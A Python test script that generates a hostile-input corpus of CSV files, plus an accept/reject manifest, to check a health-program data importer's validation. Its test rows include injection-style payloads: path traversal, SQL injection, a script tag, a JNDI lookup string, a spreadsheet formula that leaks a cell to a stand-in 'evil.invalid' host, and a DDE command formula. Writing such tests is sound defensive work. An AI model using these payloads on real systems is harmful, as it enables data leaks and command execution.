"""Generate a hostile-input corpus for the peersync-template profile (at test time, into a temporary folder).

    python tests/reliability/hostile_corpus.py OUT [--seed N] [--big-note-mb 50] [--duplicates 10000]

OUT/inputs/ gets a small copy of the demo program (three enrollments) plus hostile contact files, and one hostile
enrollment; OUT/patients.json the clinic Patient that enrollment needs (MRN system ``urn:peersync:hostile-mrn``,
replaced by the test's own); OUT/manifest.json what must happen to every hostile row:

* ``accepted``: read, sent, and found on the server under its identifier, with the note exactly as written
  (or, for the 50 MB note, with the same SHA-256);
* ``rejected``: in the rejects report at that file and row, with a reason.

Hostile content: Windows-1252, UTF-16 and UTF-8-with-BOM files, invalid bytes, a file cut off in the middle of a
quoted note, a 50 MB note in one cell, spreadsheet formulas (=, +, -, @) in notes and in reported fields, path-like
and injection-like ids (``../../etc/passwd``, ``'; DROP TABLE``, ``<script>``, ids with ``| , $ \\`` and unicode),
dates in the years 1 and 9999, 10,000 rows sharing one id, unknown codes, control characters and over-long ids.
Plus OUT/broken-xlsx/: a workbook cut in half (a whole file that cannot be read: a clear error, nothing sent).
Nothing here is committed: the files are generated, and the big ones are large.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import random
import shutil
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]
DEMO = REPO / "fixtures" / "demo" / "template"
KEEP = ("E0001", "E0002", "E0003")
HOSTILE_MRN_SYSTEM = "urn:peersync:hostile-mrn"
CONTACT_COLUMNS = ["contact_id", "enrollment_id", "supporter_id", "contact_datetime", "duration_minutes", "mode",
                   "setting", "outcome", "support_types", "essential_elements", "goal_ids", "notes",
                   "group_session_id", "planned_contact_id", "void"]

# Ids that are awkward everywhere: paths, SQL, markup, FHIR token escapes, unicode, spaces, templating.
HOSTILE_IDS = ["../../etc/passwd", "..\\..\\windows\\win.ini", "'; DROP TABLE units;--", "<script>alert(1)</script>",
               "a|b,c$d\\e", "ünï©ødé—id", "id with  spaces", "%2e%2e%2fpasswd", "${jndi:ldap://x.invalid/a}",
               "C:\\peersync\\id", "🙂-emoji-id", "x" * 128]
HOSTILE_ENROLLMENT = "EH|1,$\\x'; --"
HOSTILE_MRN = "MRN|9,9$9\\9"


def _base_row(contact_id: str, **values: str) -> dict[str, str]:
    row = {c: "" for c in CONTACT_COLUMNS}
    row.update(contact_id=contact_id, enrollment_id="E0001", supporter_id="S002",
               contact_datetime="2026-03-10T10:00:00-06:00", duration_minutes="30", mode="telephone",
               setting="remote", outcome="completed", support_types="emotional", notes=f"note of {contact_id}")
    row.update(values)
    return row


def _csv_text(rows: list[dict[str, str]], columns: list[str] = CONTACT_COLUMNS) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


class Corpus:
    def __init__(self, out: Path, seed: int) -> None:
        self.out, self.inputs = out, out / "inputs"
        self.rng = random.Random(seed)
        self.manifest: list[dict[str, Any]] = []

    def expect(self, file: str, row: int, contact_id: str | None, expect: str, kind: str = "contact",
               **extra: Any) -> None:
        self.manifest.append({"file": file, "row": row, "id": contact_id, "kind": kind, "expect": expect} | extra)

    def write(self, name: str, rows: list[dict[str, str]], expectations: list[tuple[str, dict[str, Any]]],
              encoding: str = "utf-8") -> None:
        """Write rows (CSV) with the given encoding; expectations[i] = (accepted|rejected, extra) for rows[i]."""
        (self.inputs / name).write_bytes(_csv_text(rows).encode(encoding))
        for number, (row, (expect, extra)) in enumerate(zip(rows, expectations, strict=True), start=2):
            note = row["notes"].strip() if expect == "accepted" else None
            self.expect(name, number, row["contact_id"].strip() or None, expect, **({"note": note} | extra))

    # -- the files ---------------------------------------------------------------------------------------

    def base_program(self) -> None:
        self.inputs.mkdir(parents=True, exist_ok=True)
        for source in DEMO.glob("*.csv"):
            with source.open(newline="", encoding="utf-8") as handle:
                reader = csv.DictReader(handle)
                fields = list(reader.fieldnames or [])
                rows = list(reader)
            if "enrollment_id" in fields:
                rows = [r for r in rows if r["enrollment_id"] in KEEP]
            if source.name == "goal_notes.csv":
                goals = {r["goal_id"] for r in csv.DictReader((DEMO / "goals.csv").open(encoding="utf-8"))
                         if r["enrollment_id"] in KEEP}
                rows = [r for r in rows if r["goal_id"] in goals]
            with (self.inputs / source.name).open("w", newline="", encoding="utf-8") as handle:
                writer = csv.DictWriter(handle, fieldnames=fields)
                writer.writeheader()
                writer.writerows(rows)

    def encodings(self) -> None:
        ok = ("accepted", {})
        self.write("contacts_h_cp1252.csv", [
            _base_row("HX-L1", notes="Señora Muñoz habló de la diabetes — café, año, €5"),
            _base_row("HX-L2", notes="Ça va, déjà vu, naïve façade"),
        ], [ok, ok], encoding="cp1252")
        self.write("contacts_h_utf16.csv", [
            _base_row("HX-U1", notes="日本語のメモ 📝 ünïcödé"),
            _base_row("HX-U2", mode="Tel", notes="alias mode spelling"),
        ], [ok, ok], encoding="utf-16")
        self.write("contacts_h_utf8bom.csv", [_base_row("HX-B1", notes="naïve — with a BOM")], [ok],
                   encoding="utf-8-sig")
        # UTF-8 with one row carrying bytes that are not UTF-8: only that row is rejected.
        rows = [_base_row("HX-I1", notes="café before"), _base_row("HX-I2", notes="BAD"),
                _base_row("HX-I3", notes="café after")]
        data = _csv_text(rows).encode("utf-8").replace(b"BAD", b"bad \xff\xfe\xc3 bytes")
        (self.inputs / "contacts_h_badbytes.csv").write_bytes(data)
        self.expect("contacts_h_badbytes.csv", 2, "HX-I1", "accepted", note="café before")
        self.expect("contacts_h_badbytes.csv", 3, None, "rejected", reason="not valid")
        self.expect("contacts_h_badbytes.csv", 4, "HX-I3", "accepted", note="café after")

    def truncated(self) -> None:
        rows = [_base_row("HX-T1", notes="complete row one"), _base_row("HX-T2", notes="complete row two"),
                _base_row("HX-T3", notes="this note was being written when the file was cut, so the rest of the "
                                        "row, and the row after it, never made it")]
        data = _csv_text(rows).encode("utf-8")
        cut = data.index(b"when the file was cut")
        (self.inputs / "contacts_h_truncated.csv").write_bytes(data[:cut])
        self.expect("contacts_h_truncated.csv", 2, "HX-T1", "accepted", note="complete row one")
        self.expect("contacts_h_truncated.csv", 3, "HX-T2", "accepted", note="complete row two")
        self.expect("contacts_h_truncated.csv", 4, "HX-T3", "rejected", reason="cut off")

    def big_note(self, megabytes: int) -> None:
        words = ["glucose", "walk", "family", "insulin", "clinic", "stress", "food", "sleep"]
        chunk = " ".join(self.rng.choice(words) for _ in range(4096)) + " "
        size = megabytes << 20
        note = (chunk * (size // len(chunk) + 1))[:size].strip()
        path = self.inputs / "contacts_h_bignote.csv"
        with path.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.DictWriter(handle, fieldnames=CONTACT_COLUMNS, lineterminator="\r\n")
            writer.writeheader()
            writer.writerow(_base_row("HX-BIG", notes=note))
            writer.writerow(_base_row("HX-BIG2", notes="the row after the big one"))
        self.expect("contacts_h_bignote.csv", 2, "HX-BIG", "big", note_sha256=hashlib.sha256(note.encode()).hexdigest(),
                    note_length=len(note))
        self.expect("contacts_h_bignote.csv", 3, "HX-BIG2", "accepted", note="the row after the big one")

    def formulas(self) -> None:
        ok = ("accepted", {})
        self.write("contacts_h_formula.csv", [
            _base_row("HX-F1", notes='=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")'),
            _base_row("HX-F2", notes="+1+1"),
            _base_row("HX-F3", notes="-2+3 cmd"),
            _base_row("HX-F4", notes="@SUM(A1:A9)"),
            _base_row("HX-F5", mode="=cmd|' /C calc'!A0"),
            _base_row("HX-F6", duration_minutes="-5"),
            _base_row("HX-F7", outcome="@evil()"),
            _base_row("HX-F8", setting="+moon base"),  # setting: unknown -> "other", original text kept
        ], [ok, ok, ok, ok, ("rejected", {"field": "mode", "formula": True}),
            ("rejected", {"field": "duration_minutes", "formula": True}),
            ("rejected", {"field": "outcome", "formula": True}), ok])

    def ids(self) -> None:
        rows = [_base_row(cid, notes=f"hostile id {n}") for n, cid in enumerate(HOSTILE_IDS)]
        expectations: list[tuple[str, dict[str, Any]]] = [("accepted", {}) for _ in rows]
        rows += [_base_row("y" * 129), _base_row("bad\tid"), _base_row("bad\x07bell"), _base_row("   ")]
        expectations += [("rejected", {"field": "contact_id"})] * 4
        self.write("contacts_h_ids.csv", rows, expectations)

    def dates(self) -> None:
        bad = ("rejected", {"field": "occurred_at"})
        self.write("contacts_h_dates.csv", [
            _base_row("HX-D1", contact_datetime="0001-01-01T10:00:00-06:00"),
            _base_row("HX-D2", contact_datetime="9999-12-31T23:59:59-06:00"),
            _base_row("HX-D3", contact_datetime="2026-02-30 10:00"),
            _base_row("HX-D4", contact_datetime="0000-00-00"),
            _base_row("HX-D5", contact_datetime="99999999"),
            _base_row("HX-D6", contact_datetime="03/15/2026 09:30", notes="a good date in US format"),
        ], [bad, bad, bad, bad, bad, ("accepted", {})])

    def duplicates(self, count: int) -> None:
        path = self.inputs / "contacts_h_dupes.csv"
        with path.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.DictWriter(handle, fieldnames=CONTACT_COLUMNS, lineterminator="\r\n")
            writer.writeheader()
            for n in range(count):
                writer.writerow(_base_row("HX-DUP", notes=f"copy {n}"))
        for n in range(count):
            self.expect("contacts_h_dupes.csv", n + 2, "HX-DUP", "rejected", reason="duplicate")

    def codes(self) -> None:
        self.write("contacts_h_codes.csv", [
            _base_row("HX-C1", mode="teleportation"),
            _base_row("HX-C2", support_types="emotional;telepathy"),
            _base_row("HX-C3", outcome="maybe"),
            _base_row("HX-C4", setting="the moon", notes="unknown setting kept as other"),
        ], [("rejected", {"field": "mode"}), ("rejected", {"field": "support_types"}),
            ("rejected", {"field": "outcome"}), ("accepted", {})])

    def hostile_enrollment(self) -> None:
        """An enrollment whose id and MRN need FHIR token escaping (| , $ \\) and a contact of it."""
        with (DEMO / "enrollments.csv").open(newline="", encoding="utf-8") as handle:
            reader = csv.DictReader(handle)
            fields = list(reader.fieldnames or [])
            template = next(r for r in reader if r["enrollment_id"] == "E0001")
        row = template | {"enrollment_id": HOSTILE_ENROLLMENT, "participant_id": "PH-1", "mrn": HOSTILE_MRN}
        (self.inputs / "enrollments_h.csv").write_text(_csv_text([row], fields), encoding="utf-8")
        self.expect("enrollments_h.csv", 2, HOSTILE_ENROLLMENT, "accepted", kind="enrollment")
        self.write("contacts_h_enrollment.csv", [_base_row("HX-E1", enrollment_id=HOSTILE_ENROLLMENT,
                                                           notes="contact of the hostile enrollment")],
                   [("accepted", {})])
        patient = {"resourceType": "Patient", "identifier": [{"system": HOSTILE_MRN_SYSTEM, "value": HOSTILE_MRN}],
                   "name": [{"family": "Hostile", "given": ["Token"]}], "birthDate": "1970-01-01"}
        bundle = {"resourceType": "Bundle", "type": "transaction",
                  "entry": [{"resource": patient, "request": {"method": "POST", "url": "Patient"}}]}
        (self.out / "patients.json").write_text(json.dumps(bundle, indent=1, ensure_ascii=False), encoding="utf-8")

    def broken_workbook(self) -> None:
        from openpyxl import Workbook

        folder = self.out / "broken-xlsx"
        folder.mkdir(parents=True, exist_ok=True)
        book = Workbook()
        sheet = book.active
        sheet.title = "Contacts"
        sheet.append(CONTACT_COLUMNS)
        sheet.append(list(_base_row("HX-X1").values()))
        path = folder / "program.xlsx"
        book.save(path)
        data = path.read_bytes()
        path.write_bytes(data[: len(data) // 2])


def generate(out: Path, *, seed: int = 20260801, big_note_mb: int = 50, duplicates: int = 10_000) -> dict[str, Any]:
    """Write the corpus into ``out`` (replaced if it exists) and return the manifest."""
    if out.exists():
        shutil.rmtree(out)
    corpus = Corpus(out, seed)
    corpus.base_program()
    corpus.encodings()
    corpus.truncated()
    corpus.big_note(big_note_mb)
    corpus.formulas()
    corpus.ids()
    corpus.dates()
    corpus.duplicates(duplicates)
    corpus.codes()
    corpus.hostile_enrollment()
    corpus.broken_workbook()
    manifest = {"seed": seed, "keep_enrollments": list(KEEP), "mrn_system": HOSTILE_MRN_SYSTEM,
                "hostile_enrollment": HOSTILE_ENROLLMENT, "rows": corpus.manifest}
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=False), encoding="utf-8")
    return manifest


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--seed", type=int, default=20260801)
    parser.add_argument("--big-note-mb", type=int, default=50)
    parser.add_argument("--duplicates", type=int, default=10_000)
    args = parser.parse_args()
    manifest = generate(args.out, seed=args.seed, big_note_mb=args.big_note_mb, duplicates=args.duplicates)
    counts: dict[str, int] = {}
    for row in manifest["rows"]:
        counts[row["expect"]] = counts.get(row["expect"], 0) + 1
    print(f"wrote {args.out}: {counts}")


if __name__ == "__main__":
    main()
